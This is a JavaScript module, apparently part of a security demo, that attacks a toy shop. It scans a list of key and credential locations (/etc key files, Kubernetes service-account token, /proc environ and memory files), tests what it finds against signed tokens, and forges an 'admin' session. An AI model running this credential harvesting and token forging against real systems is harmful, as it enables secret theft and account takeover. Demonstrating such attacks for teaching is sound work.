/** The attack: reads the places where keys are kept, and tests what it finds. */

import { order, readFile, ShopError, signIn, whoAmI } from './shop-api.js';
import { canCompute, candidates, forge, signedOrder, signedToken, signs } from './stolen-key.js';

/** Where an attacker who can read files would look for a key. */
const places = [
  '/etc/shop/keys/session',
  '/etc/shop/keys/orders',
  '/etc/signer/keys/session',
  '/etc/signer/keys/orders',
  '/proc/1/root/etc/signer/keys/orders',
  '/run/secrets/session',
  '/var/run/secrets/kubernetes.io/serviceaccount/token',
  'shop.ts',
  'server.ts',
  '/proc/self/environ',
  '/proc/1/environ',
  '/proc/1/cmdline',
  '/proc/1/maps',
  '/proc/1/mem',
  '/proc/1/mountinfo',
  '/proc/net/tcp',
  '/etc/hosts',
];

/**
 * @typedef {object} Found
 * @property {string} path
 * @property {string} [content]
 * @property {string} [refused] the error code of the system
 * @property {number} tried how many strings in it could have been a key
 * @property {string} [key] the one that is the key
 *
 * @returns {Promise<{ found: Found[], forged?: { user: string, accepted: boolean } }>}
 */
export async function attack() {
  const issued = await whatTheShopSigns();
  const found = await Promise.all(places.map((path) => look(path, issued)));
  const { token } = issued;
  const key = token && (await firstThat(found, ({ key }) => key && signs(key, signedToken({ token }))))?.key;
  if (key === undefined) return { found };
  const user = 'admin';
  const { valid } = await whoAmI(await forge(key, token, user));
  return { found, forged: { user, accepted: valid } };
}

/** @returns {Promise<Found>} */
export async function look(path, issued) {
  const read = await readFile(path);
  const strings = candidates(read.content ?? '');
  const signed = issued ?? (await whatTheShopSigns());
  const key = await firstThat(strings, (each) => firstThat(signed.all, (one) => signs(each, one)));
  return { path, ...read, tried: strings.length, ...(key !== undefined && { key }) };
}

/** Gets an order and a token, as any customer can. One of them may fail if the shop has no key for it. */
async function whatTheShopSigns() {
  if (!canCompute)
    throw new ShopError(
      'browsers allow the cryptography of this page only on localhost or HTTPS; open it there',
    );
  const [ordered, session] = await Promise.allSettled([order('bait'), signIn('mallory')]);
  const failed = [ordered, session].every(({ status }) => status === 'rejected');
  if (failed) throw ordered.reason;
  const all = [];
  if (ordered.status === 'fulfilled') all.push(signedOrder(ordered.value));
  if (session.status === 'fulfilled') all.push(signedToken(session.value));
  return { all, token: session.value?.token };
}

async function firstThat(list, test) {
  for (const each of list) if (await test(each)) return each;
  return undefined;
}
